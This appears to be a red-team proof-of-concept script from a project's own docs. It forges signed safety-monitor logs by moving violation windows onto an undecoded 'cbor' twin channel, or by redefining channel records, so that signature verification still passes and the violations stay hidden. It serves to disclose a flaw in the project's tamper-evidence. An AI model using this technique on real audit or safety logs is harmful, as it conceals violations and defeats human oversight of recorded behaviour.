"""Red team 15, forgery E: hide windows by re-routing their messages to a NON-json channel of the same topic.

The digest chain (and so every signed checkpoint) covers a message's topic, times, sequence and payload,
not its channel record: a channel's ``message_encoding`` is not signed. The reader decodes only "json"
channels, so messages moved to an added channel with the same topic and encoding "cbor" are counted but
never decoded. Hiding the windows from the violation to the end leaves no index gap, no violation message
without its certificate, and every checkpoint still verifies: ``review --verify --key-file`` exit 0.

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python docs/notes/redteam-15/forge_encoding.py [outdir]
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import mujoco
import numpy as np
from mcap.reader import make_reader
from mcap.writer import CompressionType, Writer

from monitor.cli import main
from monitor.gate import Gate
from monitor.log import topics

BOUNCE = """
<mujoco><option timestep="0.002" integrator="RK4"/>
 <worldbody><geom name="wall" type="box" pos="0.2 0 0" size="0.05 1 1"/>
  <body name="ball"><joint name="x" type="slide" axis="1 0 0"/><geom name="ball" type="sphere" size="0.05" mass="1"/>
 </body></worldbody><actuator><motor joint="x"/></actuator></mujoco>
"""
KEY = bytes(range(7, 39))


def signed_run(path: Path, model_xml: str = BOUNCE, steps: int = 6) -> None:
    """A signed Gate log (warn) of a ball flying at a wall: a violation when it reaches the wall."""
    m = mujoco.MjModel.from_xml_string(model_xml)
    d = mujoco.MjData(m)
    d.qpos[0], d.qvel[0] = -0.25, 1.0
    with Gate(m, log=path, frame_skip=50, allowed=None, on_violation="warn", log_options={"key": KEY}) as g:
        for _ in range(steps):
            g.step(d, np.zeros(1))


def hide_from(src: Path, dst: Path, first_hidden: int, chunked: bool = True, encoding: str = "cbor") -> int:
    """Copy ``src`` with every JSON message of window index >= ``first_hidden`` on a twin channel."""
    moved = 0
    with open(src, "rb") as fi, open(dst, "wb") as fo:
        r = make_reader(fi)
        w = Writer(
            fo, use_chunking=chunked, compression=CompressionType.ZSTD if chunked else CompressionType.NONE
        )
        w.start(library=r.get_header().library)
        s = r.get_summary()
        smap = {sid: w.register_schema(x.name, x.encoding, x.data) for sid, x in s.schemas.items()}
        cmap = {
            cid: w.register_channel(c.topic, c.message_encoding, smap.get(c.schema_id, 0), c.metadata)
            for cid, c in s.channels.items()
        }
        twin = {
            cid: w.register_channel(c.topic, encoding, smap.get(c.schema_id, 0), c.metadata)
            for cid, c in s.channels.items()
            if c.topic in topics.JSON_TOPICS
        }
        for m in r.iter_metadata():  # the seal too: the digest does not change
            w.add_metadata(m.name, dict(m.metadata))
        for a in r.iter_attachments():
            w.add_attachment(a.create_time, a.log_time, a.name, a.media_type, a.data)
        for _, ch, m in r.iter_messages(log_time_order=False):
            cid = cmap[ch.id]
            if ch.id in twin:
                k = json.loads(m.data).get("index")
                if isinstance(k, int) and k >= first_hidden:
                    cid = twin[ch.id]
                    moved += 1
            w.add_message(cid, m.log_time, m.data, m.publish_time, m.sequence)
        w.finish()
    return moved


def review(path: Path, key_file: Path) -> tuple[int, dict]:
    import contextlib
    import io

    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        code = main(["review", "--verify", "--json", "--key-file", str(key_file), str(path)])
    return code, json.loads(buf.getvalue())["logs"][0]


def redefine_in_journal(src: Path, dst: Path, first_hidden: int, encoding: str = "cbor") -> int:
    """Byte-level variant on an unchunked journal: before window ``first_hidden``'s first message, a
    Channel record re-defines each JSON channel id (same id, same topic) with ``encoding``; the MCAP spec
    lets a channel record repeat, the reader takes the latest. Records are re-emitted as they are.
    """
    from mcap.data_stream import RecordBuilder
    from mcap.records import Channel, Message
    from mcap.stream_reader import StreamReader

    out = RecordBuilder()
    chans: dict[int, Channel] = {}
    done = False
    moved = 0
    with open(src, "rb") as f:
        recs = list(StreamReader(f, skip_magic=False, emit_chunks=True).records)
    for rec in recs:
        if isinstance(rec, Channel):
            chans.setdefault(rec.id, rec)
        if isinstance(rec, Message) and not done:
            ch = chans.get(rec.channel_id)
            if ch is not None and ch.topic in topics.JSON_TOPICS:
                k = json.loads(rec.data).get("index")
                if isinstance(k, int) and k >= first_hidden:
                    for c in chans.values():
                        if c.topic in topics.JSON_TOPICS:
                            Channel(c.id, c.topic, encoding, dict(c.metadata), c.schema_id).write(out)
                    done = True
        if isinstance(rec, Message) and done and chans[rec.channel_id].topic in topics.JSON_TOPICS:
            moved += 1
        rec.write(out)
    dst.write_bytes(b"\x89MCAP0\r\n" + out.end() + b"\x89MCAP0\r\n")
    return moved


def journal_demo(out: Path, key_file: Path) -> None:
    """The journal variant: a signed Gate log left unchunked (``index=False``)."""
    m = mujoco.MjModel.from_xml_string(BOUNCE)
    d = mujoco.MjData(m)
    d.qpos[0], d.qvel[0] = -0.25, 1.0
    src = out / "bounce_journal.mcap"
    with Gate(
        m, log=src, frame_skip=50, allowed=None, on_violation="warn", log_options={"key": KEY, "index": False}
    ) as g:
        for _ in range(6):
            g.step(d, np.zeros(1))
    code, _ = review(src, key_file)
    print("genuine journal: exit", code)
    for first in (2, 5):
        dst = out / f"journal_redefined_from_{first}.mcap"
        n = redefine_in_journal(src, dst, first)
        code, e = review(dst, key_file)
        v = e.get("verify", {})
        print(
            f"journal, channels re-defined before window {first} ({n} messages after): exit {code}, windows "
            f"{v.get('windows')}, verdicts {e.get('verdicts')}, signature {v.get('signature', {}).get('status')}"
        )


def _main() -> None:
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt15")
    out.mkdir(parents=True, exist_ok=True)
    key_file = out / "log.key"
    key_file.write_bytes(KEY)
    src = out / "bounce.mcap"
    signed_run(src)
    code, e = review(src, key_file)
    print(
        "genuine: exit",
        code,
        "windows",
        e["verify"]["windows"],
        "verdicts",
        e.get("verdicts"),
        "signature",
        e["verify"]["signature"]["status"],
    )
    for first in (2, 3, 5):
        for chunked in (True, False):
            dst = out / f"hidden_from_{first}_{'chunked' if chunked else 'plain'}.mcap"
            n = hide_from(src, dst, first, chunked)
            code, e = review(dst, key_file)
            v = e.get("verify", {})
            print(
                f"hide windows >= {first} ({'chunked' if chunked else 'unchunked'}, {n} messages moved): exit {code}, "
                f"windows {v.get('windows')}, verdicts {e.get('verdicts')}, signature "
                f"{v.get('signature', {}).get('status')}, findings {[f['reason'][:90] for f in v.get('findings', [])]}"
            )
    journal_demo(out, key_file)


if __name__ == "__main__":
    _main()
